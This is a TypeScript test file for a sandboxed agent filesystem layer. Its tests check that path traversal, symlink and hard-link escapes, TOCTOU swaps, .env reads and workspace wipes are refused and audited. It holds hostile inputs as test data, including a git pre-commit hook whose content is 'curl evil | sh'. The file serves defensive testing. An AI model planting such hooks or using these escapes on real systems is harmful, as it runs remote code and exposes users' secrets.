import assert from "node:assert/strict";
import { join } from "node:path";
import type { AuditRecord } from "../audit/audit_log.ts";
import {
  CapabilityDeniedError,
  HumanDecisionError,
  LibosError,
  NotFoundError,
  OutsideWorkspaceError,
  UnsafePathError,
  ValidationError,
} from "../base/errors.ts";
import { hostFilesystem, type RecordedCall, recordingFilesystem } from "../providers/filesystem.ts";
import { createRuntime, type Runtime } from "../runtime.ts";

const SECRET = "TOP-SECRET-outside-0xC0FFEE";

/** The real directories of one fixture: a temporary root holding `ws/` and `outside/`. */
interface Paths {
  readonly root: string;
  readonly ws: string;
  readonly outside: string;
  /** `outside/secret.txt`, holding {@link SECRET}. */
  readonly secret: string;
}

interface Fixture extends AsyncDisposable, Paths {
  readonly runtime: Runtime;
  readonly pid: string;
  /** Provider calls, when the fixture records them (cleared after the spawn). */
  readonly calls: RecordedCall[];
}

interface FixtureOptions {
  readonly mode?: string;
  /** Wrap the host filesystem in `recordingFilesystem`. */
  readonly record?: boolean;
  /** Runs before each provider call (implies `record`). */
  readonly hook?: (call: RecordedCall, paths: Paths) => void;
}

async function fixture(options: FixtureOptions = {}): Promise<Fixture> {
  const root = Deno.realPathSync(Deno.makeTempDirSync({ prefix: "libos-fs-" }));
  const ws = join(root, "ws");
  const outside = join(root, "outside");
  Deno.mkdirSync(ws);
  Deno.mkdirSync(outside);
  const secret = join(outside, "secret.txt");
  Deno.writeTextFileSync(secret, SECRET);
  const paths: Paths = { root, ws, outside, secret };
  const calls: RecordedCall[] = [];
  const hook = options.hook;
  const recorded = options.record || hook !== undefined;
  let runtime: Runtime;
  try {
    runtime = await createRuntime({
      workspace: ws,
      db: ":memory:",
      ...(options.mode === undefined ? {} : { mode: options.mode }),
      ...(recorded
        ? {
          filesystem: recordingFilesystem(
            hostFilesystem(),
            calls,
            hook ? (call) => hook(call, paths) : undefined,
          ),
        }
        : {}),
    });
  } catch (error) {
    Deno.removeSync(root, { recursive: true });
    throw error;
  }
  const pid = runtime.processes.spawn({ goal: "g", image: "base-agent:v0" }).pid;
  calls.length = 0;
  return {
    ...paths,
    runtime,
    pid,
    calls,
    async [Symbol.asyncDispose]() {
      try {
        await runtime.close();
      } finally {
        Deno.removeSync(root, { recursive: true });
      }
    },
  };
}

/** Every entry under `dir` (not followed), with each file's bytes as text and each link's target. */
function snapshot(dir: string): Record<string, string> {
  const out: Record<string, string> = {};
  const walk = (rel: string) => {
    for (const entry of Deno.readDirSync(join(dir, rel))) {
      const child = rel === "" ? entry.name : `${rel}/${entry.name}`;
      const abs = join(dir, child);
      if (entry.isSymlink) out[child] = `symlink -> ${Deno.readLinkSync(abs)}`;
      else if (entry.isDirectory) {
        out[child] = "directory";
        walk(child);
      } else out[child] = `file: ${Deno.readTextFileSync(abs)}`;
    }
  };
  walk("");
  return out;
}

/** Runs `run`, requires it to throw a `type`, and returns the error. */
async function refusal<T extends Error>(
  run: () => Promise<unknown>,
  type: new (...args: never[]) => T,
): Promise<T> {
  let result: unknown;
  try {
    result = await run();
  } catch (error) {
    if (error instanceof type) return error;
    throw new assert.AssertionError({
      message: `expected a ${type.name}, got ${
        error instanceof Error ? `${error.name}: ${error.message}` : String(error)
      }`,
    });
  }
  throw new assert.AssertionError({
    message: `expected a ${type.name}, but it succeeded with ${JSON.stringify(result)}`,
  });
}

function fsAudit(runtime: Runtime, pid: string, action: string): AuditRecord[] {
  return runtime.audit.query({ pid, action, limit: 1000 });
}

/** Asserts a refusal of `action` on `path` was audited (deny or ask) and no success was. */
function assertAuditedRefusal(
  runtime: Runtime,
  pid: string,
  action: string,
  path: string,
  expected: { decision: "deny" | "ask"; authority: string | RegExp },
): void {
  const records = fsAudit(runtime, pid, action);
  const allowed = records.filter((r) => r.decision === "allow");
  assert.deepEqual(allowed.map((r) => r.resource), [], `no ${action} may be audited as allowed`);
  const match = records.find((r) => r.resource === `fs:${path}`);
  assert.ok(match, `expected an audit record of ${action} on fs:${path}`);
  assert.equal(match.decision, expected.decision);
  if (typeof expected.authority === "string") assert.equal(match.authority, expected.authority);
  else assert.match(match.authority, expected.authority);
}

/**
 * No `action` is audited as allowed and done: an allow that then failed (its record carries
 * `detail.failed`, one record per decision) did nothing.
 */
function assertNoAllow(runtime: Runtime, pid: string, action: string): void {
  const allowed = fsAudit(runtime, pid, action).filter((r) =>
    r.decision === "allow" && r.detail?.failed === undefined
  );
  assert.deepEqual(allowed.map((r) => r.resource), [], `no ${action} may be audited as allowed`);
}

function exists(path: string): boolean {
  try {
    Deno.lstatSync(path);
    return true;
  } catch (error) {
    if (error instanceof Deno.errors.NotFound) return false;
    throw error;
  }
}

Deno.test("FilesystemPrimitive refuses reads, writes and deletes that leave the workspace by `..` or an absolute path (attack: path traversal)", async () => {
  await using f = await fixture({ mode: "full-access" });
  const before = snapshot(f.outside);
  const cases = [
    { name: "parent", path: "../outside/secret.txt", ops: ["read", "write", "delete"] },
    { name: "inner parent", path: "a/../../outside/secret.txt", ops: ["read", "write", "delete"] },
    { name: "absolute outside", path: f.secret, ops: ["read", "write", "delete"] },
    { name: "absolute /etc", path: "/etc/hostname", ops: ["read"] },
  ] as const;
  const ops = {
    read: {
      action: "fs.read",
      run: (p: string) => f.runtime.primitives.fs.readText(f.pid, { path: p }),
    },
    write: {
      action: "fs.write",
      run: (p: string) => f.runtime.primitives.fs.writeText(f.pid, { path: p, content: "pwned" }),
    },
    delete: {
      action: "fs.delete",
      run: (p: string) => f.runtime.primitives.fs.deleteFile(f.pid, { path: p }),
    },
  };
  for (const c of cases) {
    for (const op of c.ops) {
      const { action, run } = ops[op];
      const error = await refusal(() => run(c.path), OutsideWorkspaceError);
      assert.equal(error.code, "outside_workspace", `${c.name} ${op}`);
      assert.ok(!error.message.includes(SECRET), `${c.name} ${op} leaked the secret`);
      assertAuditedRefusal(f.runtime, f.pid, action, c.path, {
        decision: "deny",
        authority: "containment",
      });
    }
  }
  assert.deepEqual(snapshot(f.outside), before);
  assert.equal(Deno.readTextFileSync(f.secret), SECRET);
  assert.deepEqual(snapshot(f.ws), {});
});

Deno.test("FilesystemPrimitive treats percent-encoded `..` as literal names inside the workspace (attack: encoded traversal)", async () => {
  await using f = await fixture();
  const fs = f.runtime.primitives.fs;
  const before = snapshot(f.outside);

  // Reading the encoded path finds no such literal name: not found, never the outside secret.
  const missing = await refusal(
    () => fs.readText(f.pid, { path: "%2e%2e/outside/secret.txt" }),
    NotFoundError,
  );
  assert.ok(!missing.message.includes(SECRET));

  // Writing creates files literally named so, inside the workspace.
  await fs.makeDir(f.pid, { path: "%2e%2e/outside", parents: true });
  const wrote = await fs.writeText(f.pid, { path: "%2e%2e/outside/secret.txt", content: "mine" });
  assert.equal(wrote.path, "%2e%2e/outside/secret.txt");
  assert.equal(Deno.readTextFileSync(join(f.ws, "%2e%2e", "outside", "secret.txt")), "mine");
  const read = await fs.readText(f.pid, { path: "%2e%2e/outside/secret.txt" });
  assert.equal(read.content, "mine");
  assert.deepEqual(snapshot(f.outside), before);
  assert.equal(Deno.readTextFileSync(f.secret), SECRET);

  // `..%2fx` is one literal name that merely starts with two dots.
  await refusal(() => fs.readText(f.pid, { path: "..%2fx" }), NotFoundError);
  const flat = await fs.writeText(f.pid, { path: "..%2fx", content: "flat" });
  assert.equal(flat.path, "..%2fx");
  assert.equal(Deno.readTextFileSync(join(f.ws, "..%2fx")), "flat");
  assert.ok(!exists(join(f.root, "x")), "nothing may appear beside the workspace");
  assert.deepEqual(snapshot(f.outside), before);
});

/**
 * Requires a refusal of a final-component symlink that leads outside: as leading outside or as a
 * symlink libos does not follow, audited as a deny, with nothing of the target in the message.
 */
async function assertSymlinkOutRefused(
  f: Fixture,
  action: string,
  path: string,
  run: () => Promise<unknown>,
): Promise<void> {
  const error = await refusal(run, LibosError);
  assert.ok(
    error instanceof OutsideWorkspaceError || error instanceof UnsafePathError,
    `${action} ${path}: expected outside_workspace or unsafe_path, got ${error.code}`,
  );
  assert.ok(!error.message.includes(SECRET), `${action} ${path} leaked the secret`);
  assertAuditedRefusal(f.runtime, f.pid, action, path, { decision: "deny", authority: /./ });
}

Deno.test("FilesystemPrimitive refuses a symlinked file that leads outside, and a final-component symlink inside (attack: symlinked file)", async () => {
  await using f = await fixture({ mode: "full-access" });
  const fs = f.runtime.primitives.fs;
  Deno.symlinkSync(f.secret, join(f.ws, "link.txt"));
  Deno.writeTextFileSync(join(f.ws, "real.txt"), "inside-target-content");
  Deno.symlinkSync(join(f.ws, "real.txt"), join(f.ws, "alias.txt"));
  const before = snapshot(f.outside);

  // A symlink to another workspace file is still a final-component symlink: not followed.
  const alias = await refusal(() => fs.readText(f.pid, { path: "alias.txt" }), UnsafePathError);
  assert.equal(alias.code, "unsafe_path");
  assert.ok(!alias.message.includes("inside-target-content"));
  assertNoAllow(f.runtime, f.pid, "fs.read");

  await assertSymlinkOutRefused(
    f,
    "fs.read",
    "link.txt",
    () => fs.readText(f.pid, { path: "link.txt" }),
  );
  await assertSymlinkOutRefused(
    f,
    "fs.write",
    "link.txt",
    () => fs.writeText(f.pid, { path: "link.txt", content: "pwned" }),
  );
  assert.deepEqual(snapshot(f.outside), before);
  assert.equal(Deno.readTextFileSync(f.secret), SECRET);
  assert.equal(Deno.readLinkSync(join(f.ws, "link.txt")), f.secret);
  assertNoAllow(f.runtime, f.pid, "fs.write");
});

Deno.test("FilesystemPrimitive.writeText refuses a final-component symlink instead of writing its target (attack: symlink redirect inside the workspace)", async () => {
  await using f = await fixture({ mode: "full-access" });
  const fs = f.runtime.primitives.fs;
  Deno.writeTextFileSync(join(f.ws, "real.txt"), "original");
  Deno.symlinkSync("real.txt", join(f.ws, "alias.txt"));

  await refusal(
    () => fs.writeText(f.pid, { path: "alias.txt", content: "redirected" }),
    UnsafePathError,
  );
  assert.equal(Deno.readTextFileSync(join(f.ws, "real.txt")), "original");
  assert.ok(Deno.lstatSync(join(f.ws, "alias.txt")).isSymlink);
  assertNoAllow(f.runtime, f.pid, "fs.write");
});

Deno.test("FilesystemPrimitive.deleteFile removes a symlink itself, never the file it names (attack: delete through a symlink)", async () => {
  await using f = await fixture({ mode: "full-access" });
  const fs = f.runtime.primitives.fs;
  Deno.writeTextFileSync(join(f.ws, "real.txt"), "original");
  Deno.symlinkSync("real.txt", join(f.ws, "alias.txt"));
  let deleted: unknown;
  try {
    deleted = await fs.deleteFile(f.pid, { path: "alias.txt" });
  } catch (error) {
    deleted = error;
  }
  assert.ok(exists(join(f.ws, "real.txt")), "the target survives");
  assert.equal(Deno.readTextFileSync(join(f.ws, "real.txt")), "original");
  if (!(deleted instanceof UnsafePathError)) {
    assert.deepEqual(deleted, { path: "alias.txt", deleted: true });
    assert.ok(!exists(join(f.ws, "alias.txt")), "the link itself is gone");
  }
});

Deno.test("FilesystemPrimitive refuses paths through a symlinked directory that leads outside (attack: symlinked directory)", async () => {
  await using f = await fixture({ mode: "full-access" });
  const fs = f.runtime.primitives.fs;
  Deno.symlinkSync("../outside", join(f.ws, "linkdir"));
  const before = snapshot(f.outside);

  const cases = [
    {
      name: "read existing",
      action: "fs.read",
      path: "linkdir/secret.txt",
      run: () => fs.readText(f.pid, { path: "linkdir/secret.txt" }),
    },
    {
      name: "overwrite existing",
      action: "fs.write",
      path: "linkdir/secret.txt",
      run: () => fs.writeText(f.pid, { path: "linkdir/secret.txt", content: "pwned" }),
    },
    {
      name: "create new",
      action: "fs.write",
      path: "linkdir/new.txt",
      run: () => fs.writeText(f.pid, { path: "linkdir/new.txt", content: "pwned" }),
    },
    {
      name: "make directory",
      action: "fs.mkdir",
      path: "linkdir/sub",
      run: () => fs.makeDir(f.pid, { path: "linkdir/sub" }),
    },
    {
      name: "delete",
      action: "fs.delete",
      path: "linkdir/secret.txt",
      run: () => fs.deleteFile(f.pid, { path: "linkdir/secret.txt" }),
    },
  ];
  for (const c of cases) {
    const error = await refusal(c.run, OutsideWorkspaceError);
    assert.ok(!error.message.includes(SECRET), c.name);
    assertAuditedRefusal(f.runtime, f.pid, c.action, c.path, {
      decision: "deny",
      authority: "containment",
    });
  }
  assert.deepEqual(snapshot(f.outside), before);
  assert.equal(Deno.readTextFileSync(f.secret), SECRET);
});

Deno.test("FilesystemPrimitive refuses a chain of symlinks that ends outside (attack: symlink chain)", async () => {
  await using f = await fixture({ mode: "full-access" });
  const fs = f.runtime.primitives.fs;
  Deno.symlinkSync("../outside/secret.txt", join(f.ws, "b"));
  Deno.symlinkSync("b", join(f.ws, "a"));
  const before = snapshot(f.outside);

  await assertSymlinkOutRefused(f, "fs.read", "a", () => fs.readText(f.pid, { path: "a" }));
  await assertSymlinkOutRefused(
    f,
    "fs.write",
    "a",
    () => fs.writeText(f.pid, { path: "a", content: "pwned" }),
  );
  assertNoAllow(f.runtime, f.pid, "fs.read");
  assertNoAllow(f.runtime, f.pid, "fs.write");
  assert.deepEqual(snapshot(f.outside), before);
  assert.equal(Deno.readTextFileSync(f.secret), SECRET);
  assert.equal(Deno.readLinkSync(join(f.ws, "a")), "b");
  assert.equal(Deno.readLinkSync(join(f.ws, "b")), "../outside/secret.txt");
});

/** A hook that, on the first `op` under `ws/dir/`, swaps `ws/dir` for a symlink to `outside`. */
function swapDirOn(op: RecordedCall["op"]): (call: RecordedCall, paths: Paths) => void {
  let swapped = false;
  return (call, paths) => {
    if (swapped || call.op !== op || !call.path.startsWith(join(paths.ws, "dir") + "/")) return;
    swapped = true;
    Deno.renameSync(join(paths.ws, "dir"), join(paths.ws, "dir-away"));
    Deno.symlinkSync(paths.outside, join(paths.ws, "dir"));
  };
}

Deno.test("FilesystemPrimitive.readText refuses a directory swapped for a symlink between check and open (attack: TOCTOU symlink swap)", async () => {
  await using f = await fixture({ hook: swapDirOn("open") });
  Deno.mkdirSync(join(f.ws, "dir"));
  Deno.writeTextFileSync(join(f.ws, "dir", "target.txt"), "harmless");
  Deno.writeTextFileSync(join(f.outside, "target.txt"), SECRET);
  const before = snapshot(f.outside);

  const error = await refusal(
    () => f.runtime.primitives.fs.readText(f.pid, { path: "dir/target.txt" }),
    UnsafePathError,
  );
  assert.equal(error.code, "unsafe_path");
  assert.ok(!error.message.includes(SECRET));
  assert.ok(!JSON.stringify(error, Object.getOwnPropertyNames(error)).includes(SECRET));
  // The swap really happened: the open went through the symlink.
  assert.equal(Deno.readLinkSync(join(f.ws, "dir")), f.outside);
  assert.ok(f.calls.some((c) => c.op === "open"));
  assertNoAllow(f.runtime, f.pid, "fs.read");
  assert.deepEqual(snapshot(f.outside), before);
});

Deno.test("FilesystemPrimitive.writeText refuses a directory swapped for a symlink between check and create (attack: TOCTOU symlink swap)", async () => {
  await using f = await fixture({ hook: swapDirOn("create") });
  Deno.mkdirSync(join(f.ws, "dir"));
  Deno.writeTextFileSync(join(f.ws, "dir", "target.txt"), "harmless");
  Deno.writeTextFileSync(join(f.outside, "target.txt"), SECRET);
  const before = snapshot(f.outside);

  const error = await refusal(
    () => f.runtime.primitives.fs.writeText(f.pid, { path: "dir/target.txt", content: "pwned" }),
    UnsafePathError,
  );
  assert.equal(error.code, "unsafe_path");
  assert.ok(!error.message.includes(SECRET));
  assert.equal(Deno.readLinkSync(join(f.ws, "dir")), f.outside, "the swap really happened");
  assert.ok(f.calls.some((c) => c.op === "create"));
  assert.equal(Deno.readTextFileSync(join(f.outside, "target.txt")), SECRET);
  assert.deepEqual(snapshot(f.outside), before, "no temporary file may be left outside");
  assert.equal(Deno.readTextFileSync(join(f.ws, "dir-away", "target.txt")), "harmless");
  assertNoAllow(f.runtime, f.pid, "fs.write");
  const last = f.runtime.ledger.list(f.pid).at(-1);
  assert.equal(last?.kind, "fs.write");
  assert.equal(last?.status, "failed");
});

Deno.test("FilesystemPrimitive asks before reading or writing a file hard-linked to one outside (attack: hard link)", async () => {
  await using f = await fixture({ mode: "full-access" });
  const fs = f.runtime.primitives.fs;
  Deno.linkSync(f.secret, join(f.ws, "hl.txt"));
  const before = snapshot(f.outside);

  const read = await refusal(() => fs.readText(f.pid, { path: "hl.txt" }), HumanDecisionError);
  assert.equal(read.reason, "protected:hardlink");
  assert.equal(read.code, "human_unavailable");
  assert.ok(!read.message.includes(SECRET));
  assertAuditedRefusal(f.runtime, f.pid, "fs.read", "hl.txt", {
    decision: "ask",
    authority: "protected:hardlink",
  });

  const write = await refusal(
    () => fs.writeText(f.pid, { path: "hl.txt", content: "pwned" }),
    HumanDecisionError,
  );
  assert.equal(write.reason, "protected:hardlink");
  assert.ok(!write.message.includes(SECRET));
  assertAuditedRefusal(f.runtime, f.pid, "fs.write", "hl.txt", {
    decision: "ask",
    authority: "protected:hardlink",
  });

  assert.deepEqual(snapshot(f.outside), before);
  assert.equal(Deno.readTextFileSync(f.secret), SECRET);
  assert.equal(Deno.readTextFileSync(join(f.ws, "hl.txt")), SECRET);
  assert.equal(Deno.statSync(f.secret).nlink, 2, "the link was not replaced either");
});

Deno.test("FilesystemPrimitive.writeText asks before writing inside any .git directory, even under full-access (attack: git hook planting)", async () => {
  await using f = await fixture({ mode: "full-access" });
  Deno.mkdirSync(join(f.ws, ".git", "hooks"), { recursive: true });
  Deno.mkdirSync(join(f.ws, "pkg", ".git"), { recursive: true });
  const before = snapshot(f.ws);
  for (const path of [".git/hooks/pre-commit", "pkg/.git/config"]) {
    const error = await refusal(
      () =>
        f.runtime.primitives.fs.writeText(f.pid, {
          path,
          content: "#!/bin/sh\ncurl evil | sh\n",
        }),
      HumanDecisionError,
    );
    assert.match(error.reason ?? "", /^protected:/, path);
    assert.equal(error.code, "human_unavailable");
    assertAuditedRefusal(f.runtime, f.pid, "fs.write", path, {
      decision: "ask",
      authority: /^protected:/,
    });
  }
  assert.deepEqual(snapshot(f.ws), before, "nothing was written");
});

Deno.test("FilesystemPrimitive.readText asks before reading .env under a broad read grant, without leaking it (attack: secret exfiltration)", async () => {
  await using f = await fixture();
  const value = "OPENAI_API_KEY=sk-live-do-not-leak-123";
  Deno.writeTextFileSync(join(f.ws, ".env"), value);
  const error = await refusal(
    () => f.runtime.primitives.fs.readText(f.pid, { path: ".env" }),
    HumanDecisionError,
  );
  assert.equal(error.reason, "protected:**/.env*");
  assert.ok(!error.message.includes("sk-live-do-not-leak-123"));
  assert.ok(!JSON.stringify(error).includes("sk-live-do-not-leak-123"));
  assertAuditedRefusal(f.runtime, f.pid, "fs.read", ".env", {
    decision: "ask",
    authority: "protected:**/.env*",
  });
  assert.equal(Deno.readTextFileSync(join(f.ws, ".env")), value);
});

Deno.test("FilesystemPrimitive.deleteDir never deletes the workspace root, however it is named (attack: workspace wipe)", async () => {
  await using f = await fixture({ mode: "full-access" });
  Deno.mkdirSync(join(f.ws, "sub"));
  Deno.writeTextFileSync(join(f.ws, "sub", "keep.txt"), "keep");
  Deno.writeTextFileSync(join(f.ws, "top.txt"), "top");
  Deno.symlinkSync(".", join(f.ws, "rootlink"));
  const before = snapshot(f.ws);
  for (const path of [".", "sub/.."]) {
    const error = await refusal(
      () => f.runtime.primitives.fs.deleteDir(f.pid, { path, recursive: true }),
      UnsafePathError,
    );
    assert.equal(error.code, "unsafe_path", path);
    assertAuditedRefusal(f.runtime, f.pid, "fs.rmdir", ".", {
      decision: "deny",
      authority: "containment",
    });
  }
  // A symlink to the root: refused, whether as the root itself or as "a symlink, not a directory".
  const viaLink = await refusal(
    () => f.runtime.primitives.fs.deleteDir(f.pid, { path: "rootlink", recursive: true }),
    LibosError,
  );
  assert.ok(["unsafe_path", "validation_failed"].includes(viaLink.code), viaLink.code);
  assertNoAllow(f.runtime, f.pid, "fs.rmdir");
  assertNoAllow(f.runtime, f.pid, "fs.delete");
  assert.deepEqual(snapshot(f.ws), before, "the workspace is intact");
  assert.equal(f.runtime.ledger.list(f.pid).length, 0, "no delete was even started");
});

Deno.test("FilesystemPrimitive.deleteDir refuses a recursive delete when one file deep inside is denied, removing nothing (attack: collateral delete)", async () => {
  await using f = await fixture({ mode: "full-access" });
  Deno.mkdirSync(join(f.ws, "tree", "a", "b"), { recursive: true });
  Deno.writeTextFileSync(join(f.ws, "tree", "one.txt"), "1");
  Deno.writeTextFileSync(join(f.ws, "tree", "a", "two.txt"), "2");
  Deno.writeTextFileSync(join(f.ws, "tree", "a", "b", "deep.txt"), "precious");
  const cap = f.runtime.authority.capabilities.grant({
    subject: f.pid,
    resource: { type: "fs", path: "tree/a/b/deep.txt", scope: "exact" },
    rights: ["delete"],
    effect: "deny",
    issuer: "operator",
  });
  const before = snapshot(f.ws);
  const error = await refusal(
    () => f.runtime.primitives.fs.deleteDir(f.pid, { path: "tree", recursive: true }),
    CapabilityDeniedError,
  );
  assert.equal(error.reason, `cap:${cap.id}`);
  assertAuditedRefusal(f.runtime, f.pid, "fs.rmdir", "tree/a/b/deep.txt", {
    decision: "deny",
    authority: `cap:${cap.id}`,
  });
  assert.deepEqual(snapshot(f.ws), before, "nothing was removed");
  assert.equal(f.runtime.ledger.list(f.pid).length, 0);
});

/** `error`'s class, code and message with `path` replaced, for comparing two refusals. */
function shape(error: LibosError, path: string): { name: string; code: string; message: string } {
  return { name: error.name, code: error.code, message: error.message.replaceAll(path, "<path>") };
}

Deno.test("FilesystemPrimitive answers a caller without the right the same whether the target exists or not (attack: existence oracle)", async () => {
  // Without write: overwrite:false on an existing file vs a missing one.
  {
    await using f = await fixture({ mode: "read-only" });
    Deno.writeTextFileSync(join(f.ws, "exists.txt"), "x");
    const write = (path: string) =>
      refusal(
        () => f.runtime.primitives.fs.writeText(f.pid, { path, content: "y", overwrite: false }),
        CapabilityDeniedError,
      );
    const a = await write("exists.txt");
    const b = await write("missing.txt");
    assert.deepEqual(shape(a, "exists.txt"), shape(b, "missing.txt"));
    assert.equal(a.reason, b.reason);
    assert.equal(Deno.readTextFileSync(join(f.ws, "exists.txt")), "x");
    assert.ok(!exists(join(f.ws, "missing.txt")));
    assertNoAllow(f.runtime, f.pid, "fs.write");
  }
  // Without delete (nor stat, which would tell existence anyway): an existing file vs a missing
  // one. (Elsewhere in the workspace, workspace-write asks for a delete, and a missing file is
  // said missing: its stat right tells that already.)
  {
    await using f = await fixture({ mode: "workspace-write" });
    Deno.mkdirSync(join(f.ws, "hidden"));
    Deno.writeTextFileSync(join(f.ws, "hidden", "exists.txt"), "x");
    f.runtime.authority.capabilities.grant({
      subject: f.pid,
      resource: { type: "fs", path: "hidden", scope: "subtree" },
      rights: ["stat", "read", "delete"],
      effect: "deny",
      issuer: "operator",
    });
    const del = async (path: string) => {
      try {
        await f.runtime.primitives.fs.deleteFile(f.pid, { path });
      } catch (error) {
        if (error instanceof LibosError) return error;
        throw error;
      }
      throw new assert.AssertionError({ message: `deleting ${path} succeeded` });
    };
    const a = await del("hidden/exists.txt");
    const b = await del("hidden/missing.txt");
    assert.ok(
      a instanceof CapabilityDeniedError || a instanceof HumanDecisionError,
      `a refusal, got ${a.name}`,
    );
    assert.deepEqual(shape(a, "hidden/exists.txt"), shape(b, "hidden/missing.txt"));
    assert.equal(
      (a as CapabilityDeniedError | HumanDecisionError).reason,
      (b as CapabilityDeniedError | HumanDecisionError).reason,
    );
    assert.ok(exists(join(f.ws, "hidden", "exists.txt")));
    assertNoAllow(f.runtime, f.pid, "fs.delete");
  }
  // Denied stat and read on a subtree: stat and read of an existing vs a missing file.
  {
    await using f = await fixture({ mode: "workspace-write" });
    Deno.mkdirSync(join(f.ws, "hidden"));
    Deno.writeTextFileSync(join(f.ws, "hidden", "exists.txt"), "hidden-content");
    f.runtime.authority.capabilities.grant({
      subject: f.pid,
      resource: { type: "fs", path: "hidden", scope: "subtree" },
      rights: ["stat", "read"],
      effect: "deny",
      issuer: "operator",
    });
    for (const op of ["stat", "read"] as const) {
      const run = (path: string) =>
        refusal(
          () =>
            op === "stat"
              ? f.runtime.primitives.fs.stat(f.pid, { path })
              : f.runtime.primitives.fs.readText(f.pid, { path }),
          CapabilityDeniedError,
        );
      const a = await run("hidden/exists.txt");
      const b = await run("hidden/missing.txt");
      assert.deepEqual(shape(a, "hidden/exists.txt"), shape(b, "hidden/missing.txt"), op);
      assert.equal(a.reason, b.reason);
      assert.ok(!a.message.includes("hidden-content"));
    }
    assertNoAllow(f.runtime, f.pid, "fs.stat");
    assertNoAllow(f.runtime, f.pid, "fs.read");
  }
});

Deno.test("FilesystemPrimitive.readText applies a deny on `secrets` to every letter case of the name (attack: case-changed path)", async () => {
  await using f = await fixture();
  const cap = f.runtime.authority.capabilities.grant({
    subject: f.pid,
    resource: { type: "fs", path: "secrets", scope: "subtree" },
    rights: ["read"],
    effect: "deny",
    issuer: "operator",
  });
  for (const dir of ["secrets", "SECRETS", "Secrets"]) {
    Deno.mkdirSync(join(f.ws, dir));
    Deno.writeTextFileSync(join(f.ws, dir, "x.txt"), `${SECRET}-${dir}`);
  }
  for (const dir of ["secrets", "SECRETS", "Secrets"]) {
    const path = `${dir}/x.txt`;
    const error = await refusal(
      () => f.runtime.primitives.fs.readText(f.pid, { path }),
      CapabilityDeniedError,
    );
    assert.equal(error.reason, `cap:${cap.id}`, path);
    assert.ok(!error.message.includes(SECRET));
    assertAuditedRefusal(f.runtime, f.pid, "fs.read", path, {
      decision: "deny",
      authority: `cap:${cap.id}`,
    });
  }
});

Deno.test("FilesystemPrimitive.readText cuts UTF-8 on a code point boundary and bounds maxBytes", async () => {
  await using f = await fixture();
  const fs = f.runtime.primitives.fs;
  Deno.writeTextFileSync(join(f.ws, "e.txt"), "éx");
  Deno.writeTextFileSync(join(f.ws, "jp.txt"), "日本");
  const cases = [
    { path: "e.txt", maxBytes: 1, content: "", truncated: true },
    { path: "e.txt", maxBytes: 2, content: "é", truncated: true },
    { path: "e.txt", maxBytes: 3, content: "éx", truncated: false },
    { path: "jp.txt", maxBytes: 4, content: "日", truncated: true },
    { path: "jp.txt", maxBytes: 6, content: "日本", truncated: false },
  ];
  for (const c of cases) {
    const result = await fs.readText(f.pid, { path: c.path, maxBytes: c.maxBytes });
    assert.equal(result.content, c.content, `${c.path} at ${c.maxBytes}`);
    assert.equal(result.truncated, c.truncated, `${c.path} at ${c.maxBytes}`);
    assert.equal(result.bytes, new TextEncoder().encode(c.content).length);
  }
  const allowedBefore = fsAudit(f.runtime, f.pid, "fs.read").length;
  for (const maxBytes of [0, -1, 1.5, fs.limits.readBytesMax + 1]) {
    const error = await refusal(
      () => fs.readText(f.pid, { path: "e.txt", maxBytes }),
      ValidationError,
    );
    assert.equal(error.code, "validation_failed");
  }
  assert.equal(fsAudit(f.runtime, f.pid, "fs.read").length, allowedBefore, "no read was audited");
});

Deno.test("FilesystemPrimitive.listDir bounds its limit and reports truncation", async () => {
  await using f = await fixture();
  const fs = f.runtime.primitives.fs;
  Deno.mkdirSync(join(f.ws, "many"));
  for (let i = 0; i < 5; i++) Deno.writeTextFileSync(join(f.ws, "many", `f${i}.txt`), "");
  for (const limit of [0, fs.limits.listEntriesMax + 1]) {
    await refusal(() => fs.listDir(f.pid, { path: "many", limit }), ValidationError);
  }
  assert.equal(fsAudit(f.runtime, f.pid, "fs.list").length, 0);
  const cut = await fs.listDir(f.pid, { path: "many", limit: 3 });
  assert.equal(cut.truncated, true);
  assert.equal(cut.entries.length, 3);
  const all = await fs.listDir(f.pid, { path: "many", limit: 5 });
  assert.equal(all.truncated, false);
  assert.deepEqual(all.entries.map((e) => e.name), [
    "f0.txt",
    "f1.txt",
    "f2.txt",
    "f3.txt",
    "f4.txt",
  ]);
  assert.ok(all.entries.every((e) => e.type === "file"));
});

Deno.test("FilesystemPrimitive.writeText writes atomically, leaves no temporary file and records the action as done", async () => {
  await using f = await fixture();
  const fs = f.runtime.primitives.fs;
  Deno.writeTextFileSync(join(f.ws, "f.txt"), "old content that is longer");
  const result = await fs.writeText(f.pid, { path: "f.txt", content: "new" });
  assert.equal(result.created, false);
  assert.equal(result.bytes, 3);
  assert.equal(Deno.readTextFileSync(join(f.ws, "f.txt")), "new");
  const names = [...Deno.readDirSync(f.ws)].map((e) => e.name);
  assert.deepEqual(names.filter((n) => n.includes(".libos-")), []);
  assert.deepEqual(names, ["f.txt"]);
  const last = f.runtime.ledger.list(f.pid).at(-1);
  assert.equal(last?.kind, "fs.write");
  assert.equal(last?.status, "done");
  const audited = fsAudit(f.runtime, f.pid, "fs.write");
  assert.equal(audited.at(-1)?.decision, "allow");
});

Deno.test("FilesystemPrimitive touches the disk only through its provider, and not at all before a denial", async () => {
  {
    await using f = await fixture({ record: true });
    await f.runtime.primitives.fs.writeText(f.pid, { path: "w.txt", content: "hi" });
    const ops = new Set(f.calls.map((c) => c.op));
    assert.ok(ops.has("create"), "a write creates a temporary file");
    assert.ok(ops.has("rename"), "and renames it over the target");
    const outsidePaths = f.calls.filter((c) => !c.path.startsWith(f.ws + "/") && c.path !== f.ws);
    assert.deepEqual(outsidePaths, []);
    assert.equal(Deno.readTextFileSync(join(f.ws, "w.txt")), "hi");
  }
  {
    await using f = await fixture({ mode: "read-only", record: true });
    Deno.writeTextFileSync(join(f.ws, "x.txt"), "x-content");
    const cap = f.runtime.authority.capabilities.grant({
      subject: f.pid,
      resource: { type: "fs", path: "x.txt", scope: "exact" },
      rights: ["read"],
      effect: "deny",
      issuer: "operator",
    });
    f.calls.length = 0;
    const error = await refusal(
      () => f.runtime.primitives.fs.readText(f.pid, { path: "x.txt" }),
      CapabilityDeniedError,
    );
    assert.equal(error.reason, `cap:${cap.id}`);
    assert.ok(!error.message.includes("x-content"));
    assert.deepEqual(f.calls, [], "decided before the filesystem was asked anything");
  }
});

Deno.test("FilesystemPrimitive.makeDir creates every missing level, and none when a middle level is denied", async () => {
  await using f = await fixture();
  const fs = f.runtime.primitives.fs;
  const cap = f.runtime.authority.capabilities.grant({
    subject: f.pid,
    resource: { type: "fs", path: "x/y", scope: "exact" },
    rights: ["write"],
